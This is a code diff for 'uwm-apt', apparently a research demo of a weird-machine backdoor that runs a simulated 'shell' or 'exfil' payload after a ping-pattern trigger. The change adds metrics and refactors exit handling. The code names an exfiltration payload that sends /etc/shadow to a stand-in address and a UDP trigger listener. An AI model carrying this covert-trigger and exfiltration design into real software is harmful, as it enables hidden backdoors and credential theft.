@@ -9,6 +9,7 @@
 //
 //	uwm-apt -demo                         # self-contained demo
 //	uwm-apt -demo -payload exfil          # exfiltrate the fake shadow file
+//	uwm-apt -demo -metrics                # ping/decode counters at exit
 //	uwm-apt -listen 127.0.0.1:9999        # wait for UDP trigger datagrams
 package main
 
@@ -17,23 +18,38 @@ import (
 	"fmt"
 	"os"
 
+	"uwm/internal/core"
+	"uwm/internal/obs"
 	"uwm/internal/otp"
 	"uwm/internal/wmapt"
 )
 
 func main() {
+	os.Exit(run())
+}
+
+// run returns main's exit code so the observability session closes
+// (metrics exposition, trace flush) on every path.
+func run() int {
 	var (
 		demo    = flag.Bool("demo", false, "run the full trigger loop locally")
 		listen  = flag.String("listen", "", "listen for 20-byte UDP trigger datagrams on this address")
 		payload = flag.String("payload", "shell", `payload: "shell" or "exfil"`)
 		seed    = flag.Uint64("seed", 7, "simulation seed")
 		maxPing = flag.Int("max-pings", 500, "demo: give up after this many pings")
+		obsCfg  obs.Config
 	)
+	obsCfg.AddFlags(flag.CommandLine)
 	flag.Parse()
 
 	if !*demo && *listen == "" {
 		flag.Usage()
-		os.Exit(2)
+		return 2
+	}
+
+	fail := func(format string, args ...any) int {
+		fmt.Fprintf(os.Stderr, "uwm-apt: "+format+"\n", args...)
+		return 1
 	}
 
 	var p wmapt.Payload
@@ -44,33 +60,44 @@ func main() {
 		p = wmapt.ExfilShadow{Path: "/etc/shadow", Dest: "10.13.37.1:8080"}
 	default:
 		fmt.Fprintf(os.Stderr, "uwm-apt: unknown payload %q\n", *payload)
-		os.Exit(2)
+		return 2
+	}
+
+	sess, err := obs.Start(obsCfg)
+	if err != nil {
+		return fail("%v", err)
+	}
+	defer sess.Close()
+
+	mo := wmapt.MachineOptions(*seed)
+	mo.Metrics = sess.Registry
+	mo.Sink = sess.Sink
+	m, err := core.NewMachine(mo)
+	if err != nil {
+		return fail("%v", err)
 	}
 
 	env := wmapt.NewEnv()
-	apt, err := wmapt.New(env, wmapt.Options{Seed: *seed})
+	apt, err := wmapt.New(env, wmapt.Options{Seed: *seed, Machine: m})
 	if err != nil {
-		fmt.Fprintf(os.Stderr, "uwm-apt: %v\n", err)
-		os.Exit(1)
+		return fail("%v", err)
 	}
 	pad, err := apt.Install(p)
 	if err != nil {
-		fmt.Fprintf(os.Stderr, "uwm-apt: %v\n", err)
-		os.Exit(1)
+		return fail("%v", err)
 	}
 	fmt.Printf("installed %s payload; trigger (ping -p pattern): %s\n", p.Name(), pad.PingPattern())
 
 	if *listen != "" {
 		l, err := wmapt.ListenUDP(*listen, apt)
 		if err != nil {
-			fmt.Fprintf(os.Stderr, "uwm-apt: %v\n", err)
-			os.Exit(1)
+			return fail("%v", err)
 		}
 		defer l.Close()
 		fmt.Printf("listening on %s; send the 20 raw trigger bytes as a UDP datagram\n", l.Addr())
 		res := <-l.Results()
 		report(res, env)
-		return
+		return 0
 	}
 
 	// Demo: deliver a few wrong triggers (silence), then the real one
@@ -80,29 +107,26 @@ func main() {
 	for i := 0; i < 3; i++ {
 		res, err := apt.HandlePing(wrong)
 		if err != nil {
-			fmt.Fprintf(os.Stderr, "uwm-apt: %v\n", err)
-			os.Exit(1)
+			return fail("%v", err)
 		}
 		if res != nil {
 			fmt.Println("UNEXPECTED: fired on a wrong trigger")
-			os.Exit(1)
+			return 1
 		}
 		fmt.Printf("ping %d (wrong trigger): silent, environment untouched\n", apt.Pings())
 	}
 	for apt.Pings() < *maxPing {
 		res, err := apt.HandlePing(pad)
 		if err != nil {
-			fmt.Fprintf(os.Stderr, "uwm-apt: %v\n", err)
-			os.Exit(1)
+			return fail("%v", err)
 		}
 		if res != nil {
 			report(*res, env)
-			return
+			return 0
 		}
 		fmt.Printf("ping %d (correct trigger): weird XOR picked up gate errors, still silent\n", apt.Pings())
 	}
-	fmt.Fprintf(os.Stderr, "uwm-apt: trigger did not decode within %d pings\n", *maxPing)
-	os.Exit(1)
+	return fail("trigger did not decode within %d pings", *maxPing)
 }
 
 func report(res wmapt.Result, env *wmapt.Env) {
